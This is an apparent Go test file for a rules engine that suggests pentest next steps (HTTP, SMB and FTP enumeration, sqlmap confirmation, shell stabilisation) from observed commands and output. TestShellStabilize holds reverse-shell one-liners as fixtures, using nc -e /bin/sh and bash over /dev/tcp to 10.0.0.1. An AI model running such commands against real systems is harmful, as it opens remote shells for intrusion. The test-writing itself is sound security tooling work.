package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/huntlog/huntlog/pkg/types"
)

func firedNames(advice []Advice) []string {
	out := make([]string, len(advice))
	for i, a := range advice {
		out[i] = a.Rule
	}
	return out
}

func TestHTTPEnumFiresOnPortFact(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{
		Command: "nmap -sV <ip>",
		Facts:   []types.Fact{{Type: types.FactPort, Value: "80/http"}},
	})
	assert.Contains(t, firedNames(advice), "http-enum")
}

func TestHTTPEnumFiresOnOutputLine(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{
		Command: "nmap -sV <ip>",
		Output:  "8080/tcp open http-proxy",
	})
	assert.Contains(t, firedNames(advice), "http-enum")
}

func TestSMBEnum(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{
		Facts: []types.Fact{{Type: types.FactPort, Value: "445/microsoft-ds"}},
	})
	assert.Contains(t, firedNames(advice), "smb-enum")
}

func TestFTPAnonOnBanner(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{
		Command: "nc <ip> 21",
		Output:  "220 ProFTPD Server ready",
	})
	assert.Contains(t, firedNames(advice), "ftp-anon")
}

func TestShellStabilize(t *testing.T) {
	for _, cmd := range []string{
		"nc -lvnp 4444",
		"ncat --ssl -lvnp 443",
		"/usr/bin/nc -e /bin/sh 10.0.0.1 4444",
		"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
	} {
		advice := NewEngine().Evaluate(EventContext{Command: cmd})
		assert.Contains(t, firedNames(advice), "shell-stabilize", cmd)
	}

	advice := NewEngine().Evaluate(EventContext{Command: "rsync -av src dst"})
	assert.NotContains(t, firedNames(advice), "shell-stabilize")
}

func TestSQLMapConfirm(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{
		Command: "sqlmap -u http://target.htb/?id=1",
		Facts:   []types.Fact{{Type: types.FactVulnerability, Value: "sql-injection"}},
	})
	names := firedNames(advice)
	assert.Contains(t, names, "sqlmap-confirm")

	var priority types.Priority
	for _, a := range advice {
		if a.Rule == "sqlmap-confirm" {
			priority = a.Priority
		}
	}
	assert.Equal(t, types.PriorityHigh, priority)
}

func TestAllMatchesFire(t *testing.T) {
	// One event can legitimately trip several rules.
	advice := NewEngine().Evaluate(EventContext{
		Command: "nmap -sV <ip>",
		Output:  "80/tcp open http\n445/tcp open microsoft-ds",
		Facts: []types.Fact{
			{Type: types.FactPort, Value: "80/http"},
			{Type: types.FactPort, Value: "445/microsoft-ds"},
		},
	})
	names := firedNames(advice)
	assert.Contains(t, names, "http-enum")
	assert.Contains(t, names, "smb-enum")
}

func TestNoMatchesNoAdvice(t *testing.T) {
	advice := NewEngine().Evaluate(EventContext{Command: "ls -la", Output: "total 12"})
	assert.Empty(t, advice)
}

func TestPanickingRuleFailsClosed(t *testing.T) {
	e := NewEngineWithRules([]Rule{
		{Name: "broken", Priority: types.PriorityLow, Match: func(EventContext) bool { panic("boom") }},
		{Name: "steady", Priority: types.PriorityLow, Match: func(EventContext) bool { return true }, Text: "ok"},
	})
	advice := e.Evaluate(EventContext{})
	require.Len(t, advice, 1)
	assert.Equal(t, "steady", advice[0].Rule)
}
